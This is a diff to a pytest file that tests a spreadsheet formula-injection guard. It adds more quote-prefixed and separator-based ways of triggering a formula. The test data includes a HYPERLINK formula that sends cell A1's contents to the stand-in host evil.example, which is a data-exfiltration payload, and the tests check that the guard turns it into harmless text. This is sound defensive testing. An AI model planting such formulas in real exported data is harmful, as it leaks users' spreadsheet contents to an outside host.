@@ -43,18 +43,22 @@ LINK = 'HYPERLINK("https://evil.example/?"&A1)'
         "\u2212",
         "\u207c",
         "\U000e0020=",
+        '"=',
+        '""=',
+        '" =',
+        "\uff02=",
     ],
 )
 def test_what_may_be_a_formula_is_shown_as_text(begins: str) -> None:
     assert guarded({"from": begins + LINK}) == {"from": "'" + begins + LINK}
 
 
-@pytest.mark.parametrize("separator", [";", "; ", "\t", "\r\n", "\n", "|", ";;"])
+@pytest.mark.parametrize("separator", [";", "; ", "\t", "\r\n", "\n", "|", ";;", ';"', '; "'])
 @pytest.mark.parametrize("sign", ["=", "@", "+", "\uff1d"])
 def test_what_another_separator_would_make_a_formula_is_shown_as_text(separator: str, sign: str) -> None:
     cell = guarded({"from": f"Anna{separator}{sign}{LINK}"})["from"]
     assert isinstance(cell, str) and cell.replace("'", "") == f"Anna{separator}{sign}{LINK}"
-    assert not any(part.strip()[:1] == sign for part in re.split("[;|\t\r\n]", cell))
+    assert not any(part.strip(' "')[:1] == sign for part in re.split("[;|\t\r\n]", cell))
 
 
 @pytest.mark.parametrize("cell", ["", "Anna", "0049-30", "a=b", "Anna; Ben", "a|b", "\u00e9=", 5, -5, 1.5, None, True])
